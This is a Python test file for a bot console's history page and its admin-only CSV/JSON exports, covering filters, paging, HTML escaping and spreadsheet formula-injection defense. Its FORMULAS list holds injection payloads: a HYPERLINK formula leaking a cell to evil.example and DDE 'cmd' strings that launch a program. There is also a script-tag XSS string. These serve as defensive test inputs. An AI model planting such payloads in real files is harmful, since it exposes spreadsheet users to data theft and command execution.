"""The history page and its exports through the real app: every run with its outcome, filters,
keyset pages that do not shift when runs arrive, admin-only CSV/JSON that no spreadsheet runs."""

import csv
import io
import json
import re
from dataclasses import replace

import pytest

from adapters.console import Identity, Role
from adapters.console._export import FORMULA_START
from bot.models import Actor, JokeRequest, RequestStatus
from tests.support.console import MOD, ORIGIN, Browser, ConsoleHarness
from tests.support.hostile import HOSTILE

FORMULAS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def runs_in(html: str) -> list[str]:
    return re.findall(r'data-run="([^"]+)"', html)


async def ask_as(web: ConsoleHarness, key: str, topic: str, requester: str) -> str:
    origin = replace(ORIGIN, requester=Actor("discord", key, requester))
    result = await web.stack.service.request_joke(JokeRequest(key, origin, topic))
    assert result.status == RequestStatus.ACCEPTED, result.message
    assert result.run_id is not None
    await web.stack.drain()
    return result.run_id


async def test_history_lists_every_run_newest_first_with_its_outcome(web: ConsoleHarness) -> None:
    browser = await web.signed_in()
    approved = await web.ask("discord:1", "cats")
    await web.discord.click(web.stack.service.decide, web.token(approved), "approve", MOD)
    await web.stack.drain()
    web.clock.advance(60)
    pending = await web.ask("discord:2", "dogs")

    status, html = await browser.page("/history")
    _, published = await browser.page("/history?outcome=published")
    _, found = await browser.page("/history?q=DOGS")
    _, slack = await browser.page("/history?platform=slack")
    _, later = await browser.page("/history?from=2026-01-02")
    _, day = await browser.page("/history?from=2026-01-01&to=2026-01-01")

    assert status == 200
    assert runs_in(html) == [pending, approved]
    assert 'outcome-published">published' in html
    assert 'outcome-pending">pending' in html
    assert f'href="/runs/{approved}"' in html
    assert 'dana <span class="muted">(approve)' in html
    assert runs_in(published) == [approved]
    assert runs_in(found) == [pending]
    assert runs_in(slack) == []
    assert runs_in(later) == []
    assert runs_in(day) == [pending, approved]


async def test_history_escapes_user_text(web: ConsoleHarness) -> None:
    browser = await web.signed_in()
    await ask_as(web, "discord:1", "<b>cats</b>", "<script>alert(1)</script>")

    _, html = await browser.page("/history")

    assert "<script>alert(1)</script>" not in html
    assert "<b>cats" not in html
    assert "&lt;script&gt;" in html


async def test_history_pages_by_keyset_and_new_runs_do_not_shift_a_page(
    web: ConsoleHarness,
) -> None:
    browser = await web.signed_in()
    runs = []
    for i in range(53):
        runs.append(await web.ask(f"discord:{i}", f"topic {i}"))
        web.clock.advance(1)

    _, first = await browser.page("/history")
    older = re.search(r'rel="next" href="([^"]+)"', first)
    assert older is not None
    for i in range(3):  # arrive between the two page loads
        await web.ask(f"discord:new{i}", "late")
    _, second = await browser.page(older.group(1).replace("&amp;", "&"))
    _, fresh = await browser.page("/history")

    newest_first = runs[::-1]
    assert runs_in(first) == newest_first[:50]
    assert runs_in(second) == newest_first[50:]
    assert 'rel="next"' not in second
    assert "« Newest" in second
    assert runs_in(fresh)[:3] == [f"discord:new{i}" for i in (2, 1, 0)]


async def export(browser: Browser, path: str) -> tuple[int, str, str]:
    async with browser.http.get(browser.base + path, allow_redirects=False) as r:
        return r.status, r.headers.get("Content-Type", ""), await r.text()


@pytest.mark.parametrize("role", [Role.VIEWER, Role.MODERATOR])
async def test_exports_are_for_admins_only(web: ConsoleHarness, role: Role) -> None:
    await web.ask("discord:1", "cats")
    someone = await web.signed_in_as(Identity("console", "u9", "vic", role))
    nobody = await web.browser()

    _, html = await someone.page("/history")
    refused = [(await export(someone, f"/history/export.{kind}"))[0] for kind in ("csv", "json")]
    anonymous = [(await export(nobody, f"/history/export.{kind}"))[0] for kind in ("csv", "json")]

    assert "export.csv" not in html
    assert refused == [403, 403]
    assert anonymous == [401, 401]


async def test_csv_export_quotes_cells_and_never_starts_a_formula(web: ConsoleHarness) -> None:
    admin = await web.signed_in()
    names = [*FORMULAS, *(text for _, text in HOSTILE if text.strip())]
    for i, name in enumerate(names):
        await ask_as(web, f"discord:{i}", f'cats, "quoted" {i}\nline', name)

    status, kind, body = await export(admin, "/history/export.csv")
    _, _, json_body = await export(admin, "/history/export.json")

    assert status == 200
    assert kind.startswith("text/csv")
    rows = list(csv.reader(io.StringIO(body, newline="")))
    header, cells = rows[0], rows[1:]
    assert header[:3] == ["run_id", "created_at", "updated_at"]
    assert len(cells) == len(names)
    by_run = {row[0]: dict(zip(header, row, strict=True)) for row in cells}
    as_json = {entry["run_id"]: entry for entry in json.loads(json_body)}
    assert by_run.keys() == as_json.keys()
    for run_id, row in by_run.items():
        assert not any(cell.startswith(FORMULA_START) for cell in row.values())
        requester = as_json[run_id]["requester"]
        expected = "'" + requester if requester.startswith(FORMULA_START) else requester
        assert row["requester"] == expected  # the whole name, one quote in front if need be
        assert row["topic"] == as_json[run_id]["topic"]  # commas and quotes survive
    assert sum(row["requester"].startswith("'") for row in by_run.values()) >= len(FORMULAS)
    assert body.splitlines()[1].startswith('"')  # every cell quoted


async def test_exports_follow_the_filters_and_stream_every_page(
    web: ConsoleHarness, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("adapters.console._export.BATCH", 2)  # three runs take two reads
    admin = await web.signed_in()
    for i in range(3):
        await web.ask(f"discord:{i}", "cats" if i else "dogs")

    _, _, every = await export(admin, "/history/export.json")
    _, _, dogs = await export(admin, "/history/export.json?q=dogs")
    _, _, csv_dogs = await export(admin, "/history/export.csv?q=dogs")

    assert [e["run_id"] for e in json.loads(every)] == ["discord:2", "discord:1", "discord:0"]
    assert [e["topic"] for e in json.loads(dogs)] == ["dogs"]
    assert len(list(csv.reader(io.StringIO(csv_dogs)))) == 2
